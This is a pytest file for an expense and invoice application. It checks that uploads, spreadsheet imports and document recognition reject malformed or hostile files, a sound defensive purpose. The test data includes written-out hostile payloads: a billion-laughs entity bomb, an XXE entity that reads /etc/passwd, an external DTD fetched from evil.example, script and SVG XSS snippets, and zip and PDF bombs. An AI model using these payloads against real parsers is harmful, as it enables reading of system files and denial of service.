"""Files that are broken, hostile, of the wrong kind or grow when they are opened."""

import pytest

from roadbook.domains.expenses.models import Expense, ExpenseReceipt, Invoice
from roadbook.domains.recognition.contracts import DocumentState
from roadbook.domains.recognition.jobs import read_documents
from roadbook.domains.recognition.tests.factories import QuietContext
from roadbook.engines.invoices.tests import specimens
from tests.bad_input.refusing import State, assert_refused, send, told_by, upload
from tests.matrix.world import NOW, World

pytestmark = pytest.mark.django_db
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><EInvoice>&c;</EInvoice>"""
SECRETS = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>
<EInvoice><Header><EIid>&s;</EIid></Header></EInvoice>"""
REMOTE = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><EInvoice/>'
ROW = (
    b'<dimension ref="A1:XFD1048576"/><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
    b'<row r="%s"><c r="A%s" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
)
HEADINGS = b"".join(b'<c t="inlineStr"><is><t>h%d</t></is></c>' % i for i in range(16_384))
WIDE = (
    b'<sheetData><row r="1">' + HEADINGS + b'</row><row r="2"><c r="A2" t="inlineStr">'
    b"<is><t>x</t></is></c></row></sheetData>"
)


def xlsx(row: bytes) -> bytes:
    """An XLSX with a heading and one more row, numbered as given."""
    return specimens.xlsx_of(ROW % (row, row))


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("receipt.png", b"", "empty"),
        ("receipt.png", b"MZ\x90\x00\x03\x00\x00\x00", "unknown_type"),
        ("receipt.pdf", b"<!DOCTYPE html><script>alert(1)</script>", "unknown_type"),
        ("receipt.png", b"<svg onload=alert(1)>", "unknown_type"),
        ("receipt.xml", b"<a>" + b" " * 3_000_000, "too_large"),
        ("receipt.ofd", b"PK\x03\x04 nothing more", "broken_archive"),
        ("receipt.ofd", specimens.zipped({"word/document.xml": b"<w/>"}), "unknown_archive"),
        ("bomb.ofd", specimens.zipped({"OFD.xml": b"\0" * 110_000_000}), "archive_bomb"),
        ("giant.png", specimens.giant_png(), "too_many_pixels"),
    ],
    ids=["empty", "program", "page", "svg", "long xml", "broken", "word", "zip bomb", "169 MP"],
)
def test_an_upload_is_refused(
    world: World, before: State, name: str, content: bytes, reason: str
) -> None:
    answer = upload(world, "owner", "files", name, content)

    problem = assert_refused(answer, before=before, status=422, code="files.refused")
    assert problem["facts"]["reason"] == reason


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("wide.xlsx", specimens.xlsx_of(WIDE), "too_many_columns"),
        ("long.xlsx", xlsx(b"1048576"), "too_many_rows"),
        ("endless.xlsx", xlsx(b"999999999999"), "too_many_rows"),
        ("bomb.xlsx", specimens.zipped({"xl/workbook.xml": b" " * 320_000_000}), "too_large"),
        ("picture.csv", specimens.png(), "not_a_table"),
        ("laughs.xlsx", specimens.xlsx_of(LAUGHS), "broken"),
    ],
    ids=["wide", "long", "endless", "zip bomb", "picture", "laughs"],
)
def test_an_import_is_refused(
    world: World, before: State, name: str, content: bytes, reason: str
) -> None:
    answer = upload(world, "admin", "rollout/imports", name, content)

    problem = assert_refused(answer, before=before, status=422, code="rollout.file_unreadable")
    assert problem["facts"]["reason"] == reason


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("laughs.xml", LAUGHS, "hostile"),
        ("secrets.xml", SECRETS, "hostile"),
        ("remote.xml", REMOTE, "hostile"),
        ("deep.xml", b"<a>" * 100_000, "broken"),
        ("many.xml", b"<a>" + b"<b/>" * 60_000 + b"</a>", "bomb"),
        ("cut.xml", specimens.fapiao_xml()[:600], "broken"),
        ("bomb.ofd", specimens.zipped({"OFD.xml": b"\0" * 30_000_000}), "bomb"),
        ("hostile.ofd", specimens.zipped({"OFD.xml": b"<a/>", "a.xml": LAUGHS}), "hostile"),
        ("bomb.pdf", specimens.pdf_bomb(), "bomb"),
        ("twice.pdf", specimens.pdf_bomb(times=2), "bomb"),
        ("cut.pdf", b"%PDF-1.7 nothing more", "broken"),
    ],
    ids=lambda value: value if isinstance(value, str) else "-",
)
def test_a_document_is_kept_unread_and_registers_nothing(
    world: World, name: str, content: bytes, reason: str
) -> None:
    counted = (Invoice, Expense, ExpenseReceipt)
    before = [model.objects.count() for model in counted]
    file = told_by(upload(world, "owner", "files", name, content))
    body = {"file_id": file["id"]}
    taken = told_by(send(world, "owner", "POST", "recognition/documents", body))

    read_documents(QuietContext(), {"ids": [taken["id"]]}, NOW)  # type: ignore[arg-type]  # ids are ids

    told = told_by(send(world, "owner", "GET", f"recognition/documents/{taken['id']}"))
    assert (told["state"], told["reason"]) == (DocumentState.UNREADABLE, reason)
    assert [model.objects.count() for model in counted] == before
